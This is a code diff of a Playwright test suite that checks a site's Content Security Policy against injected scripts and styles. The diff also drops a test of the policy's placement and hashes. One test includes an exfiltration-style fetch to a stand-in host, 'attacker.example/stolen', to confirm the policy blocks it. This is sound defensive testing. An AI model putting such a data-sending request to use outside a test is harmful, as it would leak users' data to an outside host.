@@ -1,6 +1,5 @@
-import { expect, test, type Page } from '@playwright/test';
+import { expect, test, type Page } from './support/test.ts';
 import { securityHeaders } from '../deploy/policy.ts';
-import { everyPage, routes } from './support/routes.ts';
 
 const attacker = 'https://attacker.example';
 const note = (what: string) => `window.injected = [...(window.injected ?? []), '${what}']`;
@@ -58,44 +57,43 @@ const styled = (page: Page) =>
     ),
   );
 
-for (const { path, tag } of [...everyPage, { path: '/no-such-page', tag: [] }]) {
-  test(
-    `G8 ${path}: the policy refuses nothing of ours, and every script and style written into it`,
-    { tag },
-    async ({ page }) => {
-      const { refused, reached, injected } = await watch(page);
-      const response = await page.goto(path);
-      const headers = response?.headers() ?? {};
-      for (const [name, value] of securityHeaders) expect(headers[name.toLowerCase()], name).toBe(value);
-      expect(await refused()).toEqual([]);
+/** With islands, without, and from the server's own answer. The built tests read the policy of every kind of page. */
+for (const path of ['/', '/check-first', '/help', '/no-such-page']) {
+  test(`G8 ${path}: the policy refuses nothing of ours, and every script and style written into it`, async ({
+    page,
+  }) => {
+    const { refused, reached, injected } = await watch(page);
+    const response = await page.goto(path);
+    const headers = response?.headers() ?? {};
+    for (const [name, value] of securityHeaders) expect(headers[name.toLowerCase()], name).toBe(value);
+    expect(await refused()).toEqual([]);
 
-      await inject(page, path);
-      await expect
-        .poll(refused)
-        .toEqual(
-          expect.arrayContaining([
-            'script-src-elem',
-            'script-src-attr',
-            'style-src-elem',
-            'style-src-attr',
-            'img-src',
-            'frame-src',
-            'base-uri',
-          ]),
-        );
-      expect(await injected()).toBeUndefined();
-      expect(await styled(page)).toEqual(['', '']);
-      expect(
-        await page.evaluate(() =>
-          fetch('https://attacker.example/stolen').then(
-            () => 'sent',
-            () => 'refused',
-          ),
+    await inject(page, path);
+    await expect
+      .poll(refused)
+      .toEqual(
+        expect.arrayContaining([
+          'script-src-elem',
+          'script-src-attr',
+          'style-src-elem',
+          'style-src-attr',
+          'img-src',
+          'frame-src',
+          'base-uri',
+        ]),
+      );
+    expect(await injected()).toBeUndefined();
+    expect(await styled(page)).toEqual(['', '']);
+    expect(
+      await page.evaluate(() =>
+        fetch('https://attacker.example/stolen').then(
+          () => 'sent',
+          () => 'refused',
         ),
-      ).toBe('refused');
-      expect(reached).toEqual([]);
-    },
-  );
+      ),
+    ).toBe('refused');
+    expect(reached).toEqual([]);
+  });
 }
 
 test('G8 without the policy of the page all of that runs, so the tests above can fail', async ({ page }) => {
@@ -115,44 +113,3 @@ test('G8 without the policy of the page all of that runs, so the tests above can
     ]);
   expect(await styled(page)).toEqual(['yes', 'yes']);
 });
-
-test('G8 the policy of each page comes before everything it governs, and lists exactly its own scripts and styles', async ({
-  page,
-}) => {
-  await page.goto('/terms');
-  for (const path of [...routes, '/no-such-page']) {
-    const html = await (await page.request.get(path)).text();
-    const { before, policy, hashes } = await page.evaluate(readPolicy, html);
-    expect(before, `${path}: before its policy`).toEqual(['charset']);
-    expect(policy.match(/'sha256-[^']+'/g)?.sort() ?? [], path).toEqual(hashes);
-    expect(policy, path).toMatch(/^default-src 'none';/);
-    expect(policy.match(/'unsafe-[^']*'|'strict-dynamic'|https?:|data:|\*/g), path).toBeNull();
-  }
-});
-
-/** Runs in the browser, so that its own parser says what a script is: the policy in a page, and the hashes of what it has to allow. */
-async function readPolicy(html: string) {
-  const parsed = new DOMParser().parseFromString(html, 'text/html');
-  const meta = parsed.head.querySelector('meta[http-equiv="content-security-policy" i]');
-  const children = [...parsed.head.children];
-  const before = children
-    .slice(
-      0,
-      children.findIndex((child) => child === meta),
-    )
-    .map((child) => child.getAttributeNames().join());
-  const isData = (script: HTMLScriptElement) => script.type === 'application/ld+json';
-  const inline = [
-    ...[...parsed.scripts].filter((script) => !script.src && !isData(script)),
-    ...parsed.querySelectorAll('style'),
-  ];
-  const hashOf = async ({ textContent }: Element) => {
-    const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(textContent));
-    return `'sha256-${btoa(String.fromCharCode(...new Uint8Array(digest)))}'`;
-  };
-  return {
-    before,
-    policy: meta?.getAttribute('content') ?? '',
-    hashes: [...new Set(await Promise.all(inline.map(hashOf)))].sort(),
-  };
-}
